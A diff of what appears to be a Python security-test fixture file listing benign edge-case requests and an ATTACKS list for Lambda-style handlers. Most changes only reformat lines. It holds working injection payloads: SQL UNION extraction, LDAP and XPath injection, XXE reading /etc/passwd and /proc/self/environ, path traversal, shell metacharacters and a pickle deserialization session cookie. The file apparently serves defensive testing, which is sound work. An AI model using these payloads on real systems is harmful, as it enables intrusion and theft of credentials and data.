@@ -82,11 +82,17 @@ def _pay(name: str, pin: str) -> dict[str, object]:
 
 
 def _saml(text: str) -> dict[str, object]:
-    return {**http("POST", "/saml"), "body": base64.b64encode(text.encode()).decode(), "isBase64Encoded": True}
+    return {
+        **http("POST", "/saml"),
+        "body": base64.b64encode(text.encode()).decode(),
+        "isBase64Encoded": True,
+    }
 
 
 def _session(data: bytes) -> dict[str, object]:
-    return http("GET", "/", cookies=("theme=dark; it's", "session=" + base64.urlsafe_b64encode(data).decode()))
+    return http(
+        "GET", "/", cookies=("theme=dark; it's", "session=" + base64.urlsafe_b64encode(data).decode())
+    )
 
 
 def _signed(text: str, *, is_right: bool = True) -> dict[str, object]:
@@ -122,7 +128,7 @@ REQUESTS = {
     ],
     "migrate_user": [
         cognito("UserMigration_Authentication", "x' OR '1'='1", {}, password="' or ''='"),
-        cognito("UserMigration_Authentication", IRISH, {}, password="p$(id)`;|&\"\\"),
+        cognito("UserMigration_Authentication", IRISH, {}, password='p$(id)`;|&"\\'),
     ],
     "authorizer_table": [
         _table("k-1", FIRST, name=IRISH),
@@ -137,12 +143,17 @@ REQUESTS = {
     ],
     "ldap_find": [_uid("ann"), _uid("o'brien & co"), _uid("a-b_c=d@example.org"), _uid("nobody | all")],
     "ldap_find_escaped": [_cn("Ann (HR)"), _cn("*)(uid=*))(|(uid=*"), _cn(LDAPISH), _cn("Tim O'Brien")],
-    "xml_pay": [_pay("ann", "1111"), _pay("O'Neil", "2222"), _pay("' or '1'='1", "' or ''='"), _pay("//one", "..")],
+    "xml_pay": [
+        _pay("ann", "1111"),
+        _pay("O'Neil", "2222"),
+        _pay("' or '1'='1", "' or ''='"),
+        _pay("//one", ".."),
+    ],
     "xml_pay_variables": [_pay("O'Neil", "2222"), _pay('" or "1"="1', "x"), _pay("] | //pay", REVIEW)],
     "xml_find": [{"name": "ann"}, {"name": "x and (y) or @z"}, {"name": "ann; //pay"}],
     "saml": [
         _saml("<a:r xmlns:a='urn:x'><n>Siobhán O'Brien &amp; co</n><note>&lt;!ENTITY x&gt; -- </note></a:r>"),
-        _saml('<!DOCTYPE r [<!ENTITY co "Tea and Mugs Ltd; it's SYSTEM">]><r><n>&co;</n></r>'),
+        _saml('<!DOCTYPE r [<!ENTITY co "Tea and Mugs Ltd; or SYSTEM">]><r><n>&co;</n></r>'),
         _saml(f"<r><![CDATA[{PYTHONISH}]]></r>"),
     ],
     "contacts_xml": [
@@ -169,10 +180,15 @@ REQUESTS = {
         _profile({"address": {"city": "L'Aquila; select"}, "class": "x", "init": {"globals": 1}}),
         _profile({"bio": "my __init__.__globals__ talk; " + PYTHONISH, "theme": {"dark": True}}),
     ],
-    "profile_field": [_field("name"), _field("address.city"), _field("address.street.name"), _field("eval(1)")],
+    "profile_field": [
+        _field("name"),
+        _field("address.city"),
+        _field("address.street.name"),
+        _field("eval(1)"),
+    ],
     "mail_in": [
         {
-            "content": f"From: \"O'Brien, T. <x>\" <tim@example.org>\r\nSubject: Re: {{{{7*7}}}}; Bcc: who?\r\n\r\n{SHELLISH}\r\nBcc: a@example.net\r\n"
+            "content": f'From: "O\'Brien, T. <x>" <tim@example.org>\r\nSubject: Re: {{{{7*7}}}}; Bcc: who?\r\n\r\n{SHELLISH}\r\nBcc: a@example.net\r\n'
         },
         {
             "content": 'From: a@example.org\nSubject: =?utf-8?b?8J+NtSB0ZWE=?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b--"\n\n'
@@ -183,9 +199,7 @@ REQUESTS = {
 }
 XXE = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>'
 ATTACKS = [
-    Attack(
-        "SQL", "post_confirmation", _confirmed("x", "' || (SELECT code FROM invites)) --"), "invite-5353"
-    ),
+    Attack("SQL", "post_confirmation", _confirmed("x", "' || (SELECT code FROM invites)) --"), "invite-5353"),
     Attack(
         "SQL",
         "post_confirmation",
@@ -201,7 +215,11 @@ ATTACKS = [
     Attack(
         "SQL, in a token",
         "authorizer_table",
-        _table("' AND 0 UNION ALL SELECT kid || kid || kid || kid || kid || kid || kid || kid || kid || kid || kid FROM keys --", "k-1" * 11, name="eve-2"),
+        _table(
+            "' AND 0 UNION ALL SELECT kid || kid || kid || kid || kid || kid || kid || kid || kid || kid || kid FROM keys --",
+            "k-1" * 11,
+            name="eve-2",
+        ),
         "eve-2",
     ),
     Attack("path, in a token", "authorizer_file", _file("../style.css", CSS, name="eve-3"), "eve-3"),
@@ -217,20 +235,24 @@ ATTACKS = [
     Attack("LDAP, blind", "ldap_find", _uid("ann)(userPassword=ldap-a*"), "Ann"),
     Attack("XPath", "xml_pay", _pay('" or "1"="1', '" or ""="'), "pay-neil-80"),
     Attack("XPath", "xml_pay", _pay('x" or 1=1]/pay/text() | //x["', "x"), "pay-neil-80"),
-    Attack("XPath, blind", "xml_pay", _pay('ann" and starts-with(../one[1]/pin, "1") or "a"="b', "x"), "pay-ann"),
+    Attack(
+        "XPath, blind", "xml_pay", _pay('ann" and starts-with(../one[1]/pin, "1") or "a"="b', "x"), "pay-ann"
+    ),
     Attack("XPath", "xml_find", {"name": "ann']/../one[pin='2222"}, "2222"),
     Attack("XXE", "saml", _saml(XXE), "root:x:0"),
     Attack(
         "XXE",
         "saml",
-        _saml('<!DOCTYPE r [<!ENTITY % p "<!ENTITY e SYSTEM \'/etc/passwd\'>"> %p;]><r>&e;</r>'),
+        _saml("<!DOCTYPE r [<!ENTITY % p \"<!ENTITY e SYSTEM '/etc/passwd'>\"> %p;]><r>&e;</r>"),
         "root:x:0",
     ),
     Attack("XXE", "contacts_xml", sqs(XXE), "root:x:0"),
     Attack(
         "XXE",
         "contacts_xml",
-        sqs('<?xml version="1.0"?><!DOCTYPE c [\n<!ENTITY f SYSTEM "file:///proc/self/environ">\n<!ENTITY h SYSTEM \'/etc/hosts\'>]><c>&h;</c>'),
+        sqs(
+            '<?xml version="1.0"?><!DOCTYPE c [\n<!ENTITY f SYSTEM "file:///proc/self/environ">\n<!ENTITY h SYSTEM \'/etc/hosts\'>]><c>&h;</c>'
+        ),
         "localhost",
     ),
     Attack("pickle", "session", _session(pickle.dumps(_Runs())), ID),
